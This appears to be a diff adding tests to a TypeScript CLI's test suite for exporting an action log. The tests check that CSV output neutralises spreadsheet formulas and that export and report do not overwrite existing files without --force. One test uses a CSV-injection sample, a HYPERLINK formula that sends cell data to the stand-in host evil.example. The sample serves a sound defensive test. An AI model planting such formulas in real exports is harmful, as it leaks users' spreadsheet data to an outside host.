@@ -2,7 +2,7 @@
 // commits and a segment (test/helpers/read-log.ts): every row out exactly once, in order; the
 // database any SQLite tool opens; hostile SQL refused through the CLI with the tracked files
 // untouched; the report one file whose data no row can break out of.
-import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
+import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
@@ -132,6 +132,25 @@ test('export --format sqlite -o: one database with the seed schema and every row
   validateLogFile(file);
 });
 
+test("CSV (export and sql --csv): text a spreadsheet would run as a formula starts with '; JSON Lines keeps it exact", () => {
+  const f = repo();
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+  const rec = f.cli(['record', '+tool', '--session=@s', '--metadata=-1+1', '--', formula]);
+  assert.is(rec.status, 0, rec.stderr);
+  const csv = parseCsv(f.cli(['export', '--format', 'csv']).stdout).filter((x) => x[0] === 'codex_actions');
+  assert.equal(
+    csv.map((x) => [x[3], x[5], x[6], x[7]]),
+    [["'@s", "'+tool", `'${formula}`, "'-1+1"]],
+  );
+  const sql = parseCsv(f.cli(['sql', 'SELECT session_id, action, statement, metadata, -1 AS n FROM codex_actions', '--csv']).stdout);
+  assert.equal(sql, [
+    ['session_id', 'action', 'statement', 'metadata', 'n'],
+    ["'@s", "'+tool", `'${formula}`, "'-1+1", '-1'],
+  ]);
+  const jsonl = JSON.parse(f.cli(['export']).stdout.split('\n')[0]) as LogEntry;
+  assert.equal([jsonl.session_id, jsonl.action, jsonl.statement, jsonl.metadata], ['@s', '+tool', formula, '-1+1']);
+});
+
 test('export --committed: the committed rows only', () => {
   const lines = ok(['export', '--committed']).stdout.trimEnd().split('\n');
   assert.is(lines.filter((l) => l.includes('"table":"codex_actions"')).length, rows.filter((x) => !x.pending).length);
@@ -157,6 +176,47 @@ test('export refuses to write over the log, into a folder, or sqlite to stdout; 
   const bad = r.cli(['export', '--format', 'xml']);
   assert.equal(bad.status, 2);
   assert.ok(r.read(LOG).equals(tracked[0]) && r.read(SESSION).equals(tracked[1]));
+});
+
+test('export and report -o never replace an existing file without --force; with it, a database loses its leftover journal files', async () => {
+  const keep = path.join(out, 'precious.db');
+  assert.is(r.run('sqlite3', [keep, 'CREATE TABLE precious (x); INSERT INTO precious VALUES (42);']).status, 0);
+  const notes = path.join(out, 'notes.txt');
+  writeFileSync(notes, 'keep me\n');
+  const before = [readFileSync(keep), readFileSync(notes)];
+  const refusals: Array<[string[], string]> = [
+    [['export', '--format', 'sqlite', '-o', keep], messages.outputExists(keep)],
+    [['export', '--format', 'csv', '-o', notes], messages.outputExists(notes)],
+    [['export', '-o', notes], messages.outputExists(notes)],
+    [['report', '-o', notes], messages.outputExists(notes)],
+  ];
+  for (const [args, message] of refusals) {
+    const res = r.cli(args);
+    assert.equal([res.status, res.stdout, res.stderr], [1, '', `codexlog-hooks: ${message}\n`], args.join(' '));
+  }
+  assert.equal([readFileSync(keep), readFileSync(notes)], before);
+  // A journal left beside a new database's name would be replayed into it: refused too.
+  const fresh = path.join(out, 'fresh.db');
+  writeFileSync(`${fresh}-wal`, 'stale');
+  const stale = r.cli(['export', '--format', 'sqlite', '-o', fresh]);
+  assert.equal([stale.status, stale.stderr], [1, `codexlog-hooks: ${messages.outputLeftover(fresh, `${fresh}-wal`)}\n`]);
+  assert.not.ok(existsSync(fresh));
+  // --force: replaced, and the leftovers of the old database are gone.
+  for (const suffix of ['-wal', '-shm', '-journal']) writeFileSync(`${keep}${suffix}`, 'stale');
+  for (const file of [keep, fresh]) {
+    ok(['export', '--format', 'sqlite', '-o', file, '--force']);
+    assert.equal(
+      readdirSync(out).filter((f) => f.startsWith(path.basename(file))),
+      [path.basename(file)],
+    );
+    const check = r.run('sqlite3', [file, 'PRAGMA integrity_check; SELECT count(*) FROM codex_actions;']);
+    assert.equal([check.status, check.stdout], [0, `ok\n${rows.length}\n`]);
+  }
+  assert.equal(await queryDb(keep, "SELECT name FROM sqlite_schema WHERE name = 'precious'"), []);
+  ok(['export', '--format', 'csv', '-o', notes, '--force']);
+  assert.ok(readFileSync(notes, 'utf8').startsWith('table,id,'));
+  ok(['report', '-o', notes, '--force']);
+  assert.ok(readFileSync(notes, 'utf8').startsWith('<!DOCTYPE html>'), 'the report replaced it');
 });
 
 test('export to a reader that goes away (| head): no error, no trace', () => {
